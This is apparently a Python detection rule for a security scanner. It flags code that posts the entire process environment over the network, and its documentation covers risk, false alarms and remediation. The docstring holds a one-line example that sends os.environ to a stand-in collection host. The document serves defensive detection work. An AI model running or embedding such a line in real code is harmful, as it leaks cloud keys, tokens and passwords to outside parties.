"""What it sees
    The whole process environment (`os.environ`, the output of `env`) in something that is sent away: an HTTP body,
    query or header, a socket, a DNS name, a `curl` command.

Why it matters
    Environments of build machines and developers hold cloud keys, registry tokens and passwords. One request is
    enough.

Example
    requests.post("https://collect.example.test/", json=dict(os.environ))

What to do
    Do not install or run it. If it ran, rotate every secret that any shell or CI job on that machine could see.

False alarms
    Error trackers send selected variables. A configured (not constant) address is reported with less confidence.

References
    ATT&CK T1552.001 (Credentials in Files), T1082, T1041 (Exfiltration Over C2 Channel).
"""

from collections.abc import Iterator

from lazaretto.detect.pycode import Place, defanged, once, sendings
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.python import PythonModule

_SENT = N_("sends the whole process environment to {address}")
_SENT_AWAY = N_("sends the whole process environment away")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield every sending of the environment."""
    if not view.speaks("net", "environ"):
        return
    seen: set[object] = set()
    for sending in sendings(view):
        # a child process inherits the environment; that is no sending
        tags = sending.tags
        if sending.how == "command":
            tags = sending.call.arg(0, "args", "cmd", "command").all_tags()
        if "envall" not in tags or sending.place is Place.LOCAL or not once(seen, sending.call.line):
            continue
        unasked = view.unasked(sending.call.scope)
        known = sending.place > Place.UNKNOWN
        sure = known and (unasked or sending.place >= Place.SHARED or not view.is_test)
        yield Match(
            _SENT if known else _SENT_AWAY,
            sending.call.line,
            sending.call.column,
            params={"address": defanged(sending.address)},
            excerpt=view.quote(sending.call.line),
            severity=Severity.HIGH if known or unasked else Severity.MEDIUM,
            confidence=Confidence.HIGH if sure or unasked else Confidence.LOW,
            phase=view.phase(sending.call.scope),
            layers=sending.call.layers,
        )


RULE = Rule(
    id="py/environment-posted",
    title=N_("Sends the whole environment away"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1552.001", "T1041"),
)
